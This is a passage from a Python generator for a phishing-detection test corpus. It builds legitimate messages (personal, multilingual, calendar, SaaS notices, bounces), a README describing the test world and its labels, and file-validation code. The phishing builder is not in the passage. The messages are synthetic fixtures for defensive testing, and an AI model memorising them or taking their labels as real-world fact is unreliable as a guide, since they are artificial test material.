                  "looking forward to phase 2.\n\nTom Reed and Megan Fisher\nContoso Ltd\n"))

    # ---------------------------------------------------------------- personal mail
    H("personal-gmail",
      "Personal short plain-text mail from a gmail.com friend",
      "dmarc=pass", frm=addr("Sam Patel", "sam.patel84@gmail.com"), to=addr(*DAVE), client="198.51.100.53",
      subject="Saturday?",
      entity=alt("Hey Dave,\n\nStill on for five-a-side on Saturday? Pitch is booked for 10.\n\nSam\n",
                 gmail_html(["Hey Dave,", "", "Still on for five-a-side on Saturday? Pitch is booked for 10.", "",
                             "Sam"])))

    H("personal-outlook",
      "Personal mail from an outlook.com friend",
      "dmarc=pass", frm=addr("Emma Lindqvist", "emma.lindqvist@outlook.com"), to=addr(*CAROL), client="198.51.100.54",
      subject="Book club - next title",
      entity=text("Hi Carol!\n\nWe picked 'The Remains of the Day' for April. See you on the 3rd at mine?\n\n"
                  "Emma x\n"))

    H("personal-icloud-photo",
      "Personal mail from icloud.com with a PNG photo attachment (no QR code)",
      "dmarc=pass", frm=addr("Nina Martin", "nina.martin@icloud.com"), to=addr(*ALICE), client="198.51.100.55",
      subject="Photos from the lake",
      entity=multipart("mixed", text("Hi Mum,\n\nHere's the view from the cabin this morning!\n\nNina\n\nSent from my "
                                     "iPhone\n"),
                       attachment(make_photo(1), "image/png", "IMG_4471.png", inline=False)))

    H("personal-proton-jpeg",
      "Personal mail from proton.me with a JPEG photo",
      "dmarc=pass", frm=addr("Kofi Okafor", "kofi.okafor@proton.me"), to=addr(*DAVE), client="198.51.100.56",
      subject="Garden progress",
      entity=multipart("mixed", text("Dave,\n\nThe new beds are in. Come over on Sunday and see?\n\nKofi\n"),
                       attachment(make_photo(4, fmt="JPEG"), "image/jpeg", "garden.jpg")))

    # ---------------------------------------------------------------- non-English mail
    de_text = ("Hallo Frau Martin,\n\nvielen Dank für das angenehme Gespräch gestern. Wie besprochen schicke ich "
               "Ihnen die Unterlagen zur Schulung nächste Woche. Die Räume in München sind reserviert; "
               "Frühstück und Mittagessen sind inbegriffen.\n\nFür Rückfragen stehe ich gerne zur Verfügung.\n\n"
               "Mit freundlichen Grüßen\nJürgen Müller\nMüller Beratung GmbH, Königstraße 12, 70173 Stuttgart\n")
    H("german-mueller-de-idn",
      "German mail from the genuine IDN domain mueller.de with u-umlaut (From as xn--mller-kva.de, RFC 2047 name, QP body with umlauts)",
      "dmarc=pass", frm="%s <juergen@%s>" % (ewq("Jürgen Müller"), idna("müller.de")), to=addr(*ALICE),
      client="198.51.100.57", subject=ewq("Unterlagen für die Schulung nächste Woche"),
      entity=alt(de_text, "<html><body style=\"font-family:Arial\">" + "".join(
          "<p>%s</p>" % esc(p).replace("\n", "<br>") for p in de_text.strip().split("\n\n")) + "</body></html>\n",
                 cte="quoted-printable"))

    fr_text = ("Bonjour Monsieur Chen,\n\nSuite à notre échange téléphonique, je vous confirme la livraison des "
               "luminaires pour le showroom le mercredi 12 mars. L'équipe de pose arrivera à 8 h 30.\n\n"
               "N'hésitez pas à me contacter si vous avez des questions.\n\nBien cordialement,\n"
               "Élodie Fournier\nAtelier Lumière – Service clients\n")
    H("french",
      "French customer-service mail (UTF-8 quoted-printable, RFC 2047 subject)",
      "dmarc=pass", frm=addr("Élodie Fournier", "e.fournier@atelier-lumiere.fr"), to=addr(*BOB),
      client="198.51.100.58", subject=ewq("Confirmation de livraison – mercredi 12 mars"),
      entity=alt(fr_text, "<div style=\"font-family:Georgia,serif\">" + "".join(
          "<p>%s</p>" % esc(p).replace("\n", "<br>") for p in fr_text.strip().split("\n\n")) + "</div>\n"))

    es_text = ("Hola Carol:\n\nTe escribo para confirmar la reunión del jueves a las 11:00 en nuestra oficina de "
               "Madrid. Llevaremos la propuesta de formación y el calendario para el segundo trimestre.\n\n"
               "¡Muchas gracias y hasta pronto!\n\nLucía Gómez\nContoso España – Recursos Humanos\n")
    H("spanish",
      "Spanish mail from a contoso.com colleague in Madrid (UTF-8 QP)",
      "dmarc=pass", frm=addr("Lucía Gómez", "lucia.gomez@contoso.com"), to=addr(*CAROL), client="198.51.100.59",
      subject=ew("Reunión del jueves – confirmación"), entity=text(es_text))

    ja_subject = "来週の打ち合わせについて"
    ja_body = ("アリス・マーティン様\n\nいつも大変お世話になっております。\n来週の打ち合わせですが、3月11日（火）の午後2時から"
               "でいかがでしょうか。\n資料は事前にお送りいたします。\n\nよろしくお願いいたします。\n\n"
               "さくら商事株式会社\n営業部　田中一郎\n")
    H("japanese-iso-2022-jp",
      "Japanese business mail in ISO-2022-JP (7bit) with ISO-2022-JP encoded-word subject and name",
      "dmarc=pass",
      frm="=?ISO-2022-JP?B?%s?= <i.tanaka@sakura-shoji.co.jp>" % base64.b64encode("田中一郎".encode("iso-2022-jp")).decode(),
      to=addr(*ALICE), client="198.51.100.60",
      subject="=?ISO-2022-JP?B?%s?=" % base64.b64encode(ja_subject.encode("iso-2022-jp")).decode(),
      entity=text(ja_body, charset="iso-2022-jp", cte="7bit"))

    ru_text = ("Здравствуйте, Дэйв!\n\nНаправляю вам обновлённую спецификацию на серверное оборудование. "
               "Поставка запланирована на конец марта, монтаж — в первую неделю апреля.\n\n"
               "Если появятся вопросы, пишите.\n\nС уважением,\nИван Петров\nООО «СибТехСервис»\n")
    H("russian",
      "Russian mail (UTF-8 base64 body, RFC 2047 subject/name) from a .ru company domain",
      "dmarc=pass", frm=addr("Иван Петров", "i.petrov@sibtechservice.ru"), to=addr(*DAVE), client="198.51.100.61",
      subject=ew("Спецификация на оборудование"),
      entity=alt(ru_text, "<html><body>" + "".join("<p>%s</p>" % esc(p).replace("\n", "<br>")
                                                    for p in ru_text.strip().split("\n\n")) + "</body></html>\n",
                 cte="base64"))

    zh_text = ("鲍勃，您好！\n\n附件是我们第二季度的报价单，价格与上季度保持一致。\n如有任何问题，请随时与我联系。\n\n"
               "此致\n敬礼\n\n李伟\n深圳华联电子有限公司\n")
    H("chinese",
      "Chinese supplier mail (UTF-8 base64 text+HTML) with a PDF quote",
      "dmarc=pass", frm=addr("李伟", "li.wei@hualian-elec.cn"), to=addr(*BOB), client="198.51.100.62",
      subject=ew("第二季度报价单"),
      entity=multipart("mixed",
                       alt(zh_text, "<html><body>" + "".join("<p>%s</p>" % esc(p).replace("\n", "<br>")
                                                            for p in zh_text.strip().split("\n\n")) + "</body></html>\n",
                           cte="base64"),
                       attachment(make_pdf(["Hualian Electronics - Quotation Q2 2025", "Item A-100  USD 4.20",
                                            "Item B-220  USD 11.80"], "Quotation"), "application/pdf",
                                  "Quotation_Q2_2025.pdf")))

    # ---------------------------------------------------------------- calendar, attachments, account notices
    teams_ics = make_ics("040000008200E00074C5B7101A82E008000000004471CONTOSO@contoso.com", "Aurora go/no-go",
                         "20250314T160000Z", "20250314T163000Z", ("Tom Reed", "tom.reed@contoso.com"),
                         [("Alice Martin", "alice@northwind.com"), ("Dave Okafor", "dave@northwind.com")],
                         location="Microsoft Teams Meeting", description="Go/no-go decision for the Aurora launch.")
    H("partner-calendar-invite",
      "Meeting request from contoso.com (text/html/text-calendar method=REQUEST) with a Teams join link",
      "dmarc=pass", frm=addr("Tom Reed", "tom.reed@contoso.com"), to=addrs(ALICE, DAVE), client="198.51.100.63",
      subject="Aurora go/no-go", mailer="Microsoft Outlook 16.0",
      entity=multipart("alternative",
                       text("Go/no-go decision for the Aurora launch.\n\n____\nMicrosoft Teams meeting\nJoin: "
                            "https://teams.microsoft.com/l/meetup-join/19%3ameeting_NDQ3MTAw%40thread.v2/0\n"),
                       html(outlook_html(["Go/no-go decision for the Aurora launch."], [],
                                         quoted_html='<p class="MsoNormal"><a href="https://teams.microsoft.com/l/'
                                                     'meetup-join/19%3ameeting_NDQ3MTAw%40thread.v2/0">Click here to '
                                                     'join the meeting</a></p>')),
                       text(teams_ics, subtype="calendar", extra_params="; method=REQUEST", cte="base64")))

    conf_ics = make_ics("opssummit-2025-reg-88213@opssummit.org", "NorthEast Ops Summit 2025", "20250409T130000Z",
                        "20250410T220000Z", ("NorthEast Ops Summit", "events@opssummit.org"),
                        [("Carol D\u00edaz", "carol@northwind.com")], location="Boston Convention Center",
                        description="Your registration #88213", method="PUBLISH")
    H("ics-attachment-registration",
      "Conference registration confirmation with an .ics attachment (METHOD:PUBLISH)",
      "dmarc=pass", frm=addr("NorthEast Ops Summit", "registration@opssummit.org"), to=addr(*CAROL),
      client="198.51.100.64", subject="You're registered: NorthEast Ops Summit 2025",
      entity=multipart("mixed",
                       card_alt("NorthEast Ops Summit", "#00796b", "You're registered!",
                                ["Registration #88213", "9-10 April 2025, Boston Convention Center",
                                 "Add the event to your calendar with the attached file."],
                                button=("Manage registration", "https://opssummit.org/registration/88213"),
                                footer="NorthEast Ops Summit"),
                       attachment(conf_ics.encode(), 'text/calendar; charset="utf-8"; method=PUBLISH',
                                  "opssummit-2025.ics")))

    H("expense-csv-export",
      "SaaS report e-mail with a .csv export attachment",
      "dmarc=pass", frm=addr("Expensely Reports", "reports@expensely.io"), to=addr(*BOB), client="198.51.100.65",
      subject="Your scheduled report: February expenses",
      entity=multipart("mixed",
                       card_alt("Expensely", "#6a1b9a", "Your February expense report is ready",
                                ["42 expenses, USD 8,114.27 total. The CSV export is attached."],
                                button=("Open in Expensely", "https://app.expensely.io/reports/feb-2025"),
                                footer="Expensely Inc."),
                       attachment(b"date,employee,category,amount\r\n2025-02-03,Dave Okafor,Travel,412.10\r\n"
                                  b"2025-02-11,Alice Martin,Meals,86.40\r\n2025-02-19,Carol Diaz,Training,650.00\r\n",
                                  "text/csv", "expenses_2025-02.csv")))

    H("password-reset-legit-service",
      "Password reset requested by the user on a SaaS app, link to the service's own domain",
      "dmarc=pass", frm=addr("Trellis", "no-reply@trellisapp.io"), to=addr(*DAVE), client="198.51.100.66",
      subject="Reset your Trellis password",
      entity=card_alt("Trellis", "#4a3aff", "Reset your password",
                      ["Hi Dave,", "We received a request to reset the password for dave@northwind.com.",
                       "This link expires in 30 minutes. If you didn't request this, you can ignore this email."],
                      button=("Reset password", "https://app.trellisapp.io/reset-password?token=%s" % tok("trr", 43)),
                      footer="Trellis Software Inc."))

    H("signin-notice-legit-service",
      "New sign-in notice from a SaaS chat app linking to its own domain",
      "dmarc=pass", frm=addr("Hive Chat", "security@hivechat.com"), to=addr(*CAROL), client="198.51.100.67",
      subject="New sign-in to your Hive Chat account",
      entity=card_alt("Hive Chat", "#f4a300", "New sign-in detected",
                      ["We noticed a new sign-in to the Northwind workspace.", "Device: Chrome on Windows",
                       "Location: Chicago, IL (approximate)", "If this was you, there's nothing else to do."],
                      button=("Review sessions", "https://northwind.hivechat.com/account/sessions"),
                      footer="Hive Chat, Inc."))

    # ---------------------------------------------------------------- bounces
    orig_headers = ("From: Alice Martin <alice@northwind.com>\r\nTo: nina.martin.1990@gmail.com\r\n"
                    "Subject: Dinner on Sunday\r\nDate: Tue, 04 Mar 2025 18:02:11 +0000\r\n"
                    "Message-ID: <AM0PR01MB9931.alice.0304@northwind.com>\r\n")
    H("dsn-bounce-gmail",
      "Delivery status notification (multipart/report) from mailer-daemon@googlemail.com, null envelope sender",
      "dmarc=pass", frm=addr("Mail Delivery Subsystem", "mailer-daemon@googlemail.com"), to=addr(*ALICE),
      mail_from="", client="198.51.100.68", subject="Delivery Status Notification (Failure)",
      date="Tue, 04 Mar 2025 10:02:15 -0800",
      extra=[("Auto-Submitted", "auto-replied")],
      entity=multipart("report",
                       text("** Address not found **\n\nYour message wasn't delivered to nina.martin.1990@gmail.com "
                            "because the address\ncouldn't be found, or is unable to receive mail.\n\n"
                            "The response from the remote server was:\n550 5.1.1 The email account that you tried to "
                            "reach does not exist.\n"),
                       ([("Content-Type", "message/delivery-status")],
                        "Reporting-MTA: dns; googlemail.com\r\nArrival-Date: Tue, 04 Mar 2025 18:02:13 +0000\r\n\r\n"
                        "Final-Recipient: rfc822; nina.martin.1990@gmail.com\r\nAction: failed\r\nStatus: 5.1.1\r\n"
                        "Remote-MTA: dns; gmail-smtp-in.l.google.com. (192.0.2.27, the server for the domain "
                        "gmail.com.)\r\nDiagnostic-Code: smtp; 550-5.1.1 The email account that you tried to reach "
                        "does not exist.\r\nLast-Attempt-Date: Tue, 04 Mar 2025 18:02:14 +0000\r\n"),
                       ([("Content-Type", "text/rfc822-headers")], orig_headers),
                       params="; report-type=delivery-status", preamble=False))

    H("dsn-bounce-partner-mta",
      "DSN from MAILER-DAEMON at a correspondent's MTA (mx.globex.com), null sender, dmarc=none, original message attached",
      "dmarc=none", frm=addr("Mail Delivery System", "MAILER-DAEMON@mx.globex.com"), to=addr(*BOB), mail_from="",
      client="198.51.100.69", subject="Undelivered Mail Returned to Sender", msgid="<20250305101522.4A1C2180E4@mx.globex.com>",
      date="Wed, 05 Mar 2025 10:15:22 +0000",
      extra=[("Auto-Submitted", "auto-replied")],
      entity=multipart("report",
                       text("This is the mail system at host mx.globex.com.\n\nI'm sorry to have to inform you that "
                            "your message could not\nbe delivered to one or more recipients.\n\n"
                            "<j.smith@globex.com>: host mailstore.globex.com[192.0.2.44] said: 550 5.1.1\n"
                            "    <j.smith@globex.com>: Recipient address rejected: User unknown\n"),
                       ([("Content-Type", "message/delivery-status")],
                        "Reporting-MTA: dns; mx.globex.com\r\nX-Postfix-Queue-ID: 4A1C2180E4\r\n\r\n"
                        "Final-Recipient: rfc822; j.smith@globex.com\r\nOriginal-Recipient: rfc822;j.smith@globex.com"
                        "\r\nAction: failed\r\nStatus: 5.1.1\r\nRemote-MTA: dns; mailstore.globex.com\r\n"
                        "Diagnostic-Code: smtp; 550 5.1.1 <j.smith@globex.com>: Recipient address rejected: User "
                        "unknown\r\n"),
                       ([("Content-Type", "message/rfc822")],
                        "From: Bob Chen <bob@northwind.com>\r\nTo: j.smith@globex.com\r\nSubject: PO 55410\r\n"
                        "Date: Wed, 05 Mar 2025 10:15:20 +0000\r\nMessage-ID: <bob.po55410@northwind.com>\r\n"
                        "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n"
                        "Hi John, PO 55410 attached as discussed.\r\n\r\nBob\r\n"),
                       params="; report-type=delivery-status"))


# ======================================================================================
# README, writing and checking
# ======================================================================================
README_HEAD = """# Phishing-detection corpus

Labelled e-mail messages for the phishing-detection engine tests:

* `phish/NNN-short-name.eml` - phishing messages (must be flagged)
* `ham/NNN-short-name.eml` - legitimate messages (must **not** be flagged)
* `make_corpus.py` - the generator. Everything here is produced by it; edit the script and
  re-run `python3 tests/corpus/make_corpus.py` rather than editing the `.eml` files by hand.
  The output is deterministic (fixed dates, Message-IDs, MIME boundaries, ZIP timestamps, a
  seeded AES salt), so re-running it on an unchanged script gives byte-identical files.
  Generator-only dependencies: `pip install qrcode pillow pyzipper`. `python3 make_corpus.py
  --check` only validates the committed files (standard library only).

## File format

Each file is a complete RFC 5322 message with CRLF line endings, at most 200 KiB, 7-bit
(non-ASCII text is base64 / quoted-printable, non-ASCII headers are RFC 2047 encoded words,
non-ASCII attachment names are RFC 2231 / RFC 2047 encoded). The one exception is
`%(smtputf8)s`, an SMTPUTF8 (RFC 6532) message whose From header carries a raw UTF-8
domain on purpose.

The **first** header fields are test metadata that the harness reads and strips before the
message is given to the engine:

| field | required | meaning |
|---|---|---|
| `X-Corpus-Note: <one line>` | yes | what the message tests |
| `X-Corpus-Auth: dmarc=pass\\|fail\\|none[ arc=pass]` | yes | the sender-authentication result the harness pretends the server computed for the From domain (`dmarc=pass`: SPF/DKIM aligned with From). ` arc=pass` is added when the message came through a trusted forwarder / mailing list |
| `X-Corpus-Mail-From: <address>` | no | envelope sender (MAIL FROM); an **empty value** means the null sender `<>`; when absent the envelope sender is the From address |
| `X-Corpus-Client: <ip>` | no | connecting client IP (always from 192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24) |

The metadata fields are followed by ordinary headers (one sender-side `Received`, From,
To, Subject, Date, Message-ID, MIME-Version, Content-Type, ...) and the body. No message
carries DKIM-Signature / ARC-* headers: authentication results come only from
`X-Corpus-Auth`. The only `Authentication-Results`, `X-Spam-*` and `X-Palisade-Verdict`
headers in the corpus are the *forged* ones in the signal-9 phish.

## The test world (the harness configures the engine with exactly this)

* Local domain: `northwind.com`. Local users: alice@northwind.com "Alice Martin" (CEO),
  bob@northwind.com "Bob Chen" (CFO), carol@northwind.com "Carol D\u00edaz",
  dave@northwind.com "Dave Okafor". Every message is addressed (To or Cc) to at least one of them.
* Protected partner domains: contoso.com, fabrikam.com.
* Protected brands: paypal.com, microsoft.com, apple.com, amazon.com, docusign.net, dhl.com,
  google.com, linkedin.com, netflix.com, chase.com, wellsfargo.com, dropbox.com.
* Known correspondents of northwind.com: contoso.com, fabrikam.com, globex.com, initech.com,
  umbrella-corp.com.
* Free-mail providers: gmail.com, outlook.com, hotmail.com, yahoo.com, aol.com, icloud.com,
  gmx.de, proton.me, mail.ru.
* URL shorteners: bit.ly, tinyurl.com, t.co, goo.gl, ow.ly, is.gd, buff.ly, rebrand.ly, cutt.ly.
* All IP addresses are from the documentation ranges 192.0.2.0/24, 198.51.100.0/24,
  203.0.113.0/24. Attacker domains are made up (.top, .xyz, .click, ... and lookalikes).

## Phishing signal groups

%(signal_list)s

Every phishing message has at least one real tell; many have several, as real phishing does.
The `signals` column of the table lists the groups a message exercises, its main tell first
(a brand or local-organisation name in the display name of a foreign domain counts as 2).
The QR images decode (checked with `zbarimg`) to the URLs named in their notes; the ham
photos contain no QR code.

### Coverage per signal group

%(coverage)s

## Notes on a few ham messages

* `paypal-receipt` uses the display name `"service@paypal.com" <service@paypal.com>` exactly as
  PayPal does: a display name that is an address is fine when it *is* the From address.
* `docusign-reply-to-sender`, `google-calendar-invite`, `google-drive-share`: DMARC-aligned
  transactional mail whose Reply-To is the human sender at another organisation.
* `mailing-list-dmarc-fail-arc-pass`: a list modified the message, so DMARC fails but ARC
  from the list passes. `mailing-list-from-rewritten`: the list rewrote From to itself and put
  the author (yahoo.com) in Reply-To; DMARC passes for the list domain.
* `internal-reply-chain-quoted` is the CEO approving a payment to a partner; it is legitimate.
* `internal-sender-on-behalf` (From Alice, Sender Carol, same organisation) and
  `partner-multiple-from-with-sender` (two From mailboxes plus the required Sender) are
  RFC 5322-valid uses of Sender that a header-anomaly check must not flag.
* `dsn-bounce-*` and `out-of-office-autoreply` have the null envelope sender
  (`X-Corpus-Mail-From:` with an empty value).
* `german-mueller-de-idn` comes from the genuine IDN domain m\u00fcller.de (`xn--mller-kva.de`),
  which is pure Latin script and no lookalike of anything in the test world.
* The newsletters route every link through click-tracking redirect domains
  (list-manage.com, ct.sendgrid.net, hubspotlinks.com, mandrillapp.com, a branded click
  domain); their anchor texts are words, never URLs.

## Messages

| file | label | auth | signals | note |
|---|---|---|---|---|
%(table)s
"""


def write_all():
    for label in ("phish", "ham"):
        d = os.path.join(HERE, label)
        if os.path.isdir(d):
            for f in os.listdir(d):
                if f.endswith(".eml"):
                    os.remove(os.path.join(d, f))
        os.makedirs(d, exist_ok=True)
    for m in MESSAGES:
        with open(os.path.join(HERE, m["label"], m["file"]), "wb") as fh:
            fh.write(m["data"])
    rows = []
    for m in MESSAGES:
        sig = ", ".join(str(s) for s in m["signals"]) if m["signals"] else "-"
        rows.append("| %s/%s | %s | %s | %s | %s |" % (m["label"], m["file"], m["label"], m["auth"], sig,
                                                      m["note"].replace("|", "\\|")))
    cov = []
    for k, v in SIGNALS.items():
        files = [m["file"][:-4] for m in MESSAGES if k in m["signals"]]
        cov.append("* **%d. %s** (%d): %s" % (k, v, len(files), ", ".join(files)))
    smtputf8 = [m["file"] for m in MESSAGES if m["eight_bit"]]
    text_ = README_HEAD % dict(signal_list="\n".join("%d. %s" % kv for kv in SIGNALS.items()),
                               coverage="\n".join(cov), table="\n".join(rows),
                               smtputf8="phish/" + smtputf8[0] if smtputf8 else "(none)")
    n_p = sum(1 for m in MESSAGES if m["label"] == "phish")
    n_h = sum(1 for m in MESSAGES if m["label"] == "ham")
    text_ = text_.replace("## Messages\n", "## Messages\n\n%d phishing, %d ham.\n" % (n_p, n_h), 1)
    with open(os.path.join(HERE, "README.md"), "w", encoding="utf-8", newline="\n") as fh:
        fh.write(text_)


AUTH_RE = re.compile(r"^dmarc=(pass|fail|none)( arc=pass)?$")


def check_file(path: str) -> list[str]:
    errs = []
    data = open(path, "rb").read()
    name = os.path.basename(path)
    if len(data) > MAX_BYTES:
        errs.append("larger than 200 KiB (%d)" % len(data))
    if re.search(rb"(?<!\r)\n", data) or re.search(rb"\r(?!\n)", data):
        errs.append("line ending that is not CRLF")
    if not data.endswith(b"\r\n"):
        errs.append("does not end with CRLF")
    lines = data.split(b"\r\n")
    if any(len(l) > 998 for l in lines):
        errs.append("line longer than 998 octets")
    if not lines[0].startswith(b"X-Corpus-Note: ") or len(lines[0]) <= len(b"X-Corpus-Note: "):
        errs.append("first header is not X-Corpus-Note")
    if not lines[1].startswith(b"X-Corpus-Auth: ") or not AUTH_RE.match(lines[1][15:].decode("ascii", "replace")):
        errs.append("second header is not a valid X-Corpus-Auth")
    head, _, _ = data.partition(b"\r\n\r\n")
    smtputf8 = b"SMTPUTF8" in lines[0]
    if any(b > 127 for b in data):
        if not smtputf8 or any(b > 127 for b in data[len(head):]):
            errs.append("8-bit data outside the SMTPUTF8 exception")
    msg = email.message_from_bytes(data, policy=email.policy.default)
    for h in ("From", "To", "Subject", "MIME-Version", "Content-Type"):
        if msg[h] is None:
            errs.append("missing %s" % h)
    try:
        if not msg["From"].addresses:
            errs.append("From has no address")
        str(msg["Subject"])
    except Exception as e:  # noqa: BLE001
        errs.append("header parse error: %r" % e)
    if not any(("northwind.com" in str(msg.get(h, ""))) for h in ("To", "Cc")):
        errs.append("not addressed to a northwind.com user")
    nparts = 0
    for part in msg.walk():
        nparts += 1
        for d in part.defects:
            errs.append("MIME defect in %s: %r" % (part.get_content_type(), d))
        if part.is_multipart():
            continue
        ctype = part.get_content_type()
        try:
            payload = part.get_payload(decode=True)
            if payload is None and not ctype.startswith("message/"):
                errs.append("no payload in %s" % ctype)
            if part.get_content_maintype() == "text":
                part.get_content()
            cte = str(part.get("Content-Transfer-Encoding", "7bit")).lower()
            if cte == "base64":
                base64.b64decode("".join(part.get_payload().split()), validate=True)
            fn = part.get_filename()
            if fn is not None:
                str(fn)
        except Exception as e:  # noqa: BLE001
            errs.append("cannot decode %s: %r" % (ctype, e))
    if nparts == 0:
        errs.append("no MIME parts")
    return ["%s: %s" % (name, e) for e in errs]


def check_all() -> int:
    errors, counts, msgids = [], {}, {}
    for label in ("phish", "ham"):
        d = os.path.join(HERE, label)
        files = sorted(f for f in os.listdir(d) if f.endswith(".eml"))
        counts[label] = len(files)
        for i, f in enumerate(files, 1):
            if not re.match(r"^%03d-[a-z0-9][a-z0-9-]*\.eml$" % i, f):
                errors.append("%s/%s: bad name or numbering gap" % (label, f))
            path = os.path.join(d, f)
            errors += ["%s/%s" % (label, e) for e in check_file(path)]
            msg = email.message_from_bytes(open(path, "rb").read(), policy=email.policy.default)
            mid = msg.get("Message-ID")
            if mid:
                if mid in msgids:
                    errors.append("%s/%s: duplicate Message-ID with %s" % (label, f, msgids[mid]))
                msgids[mid] = f
        if counts[label] < 64:
            errors.append("only %d %s messages (need >= 64)" % (counts[label], label))
    for e in errors:
        print("ERROR", e)
    print("checked: %d phish, %d ham, %d errors" % (counts.get("phish", 0), counts.get("ham", 0), len(errors)))
    return 1 if errors else 0


def main(argv) -> int:
    if "--check" not in argv:
        build_phish()
        build_ham()
        write_all()
    return check_all()


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
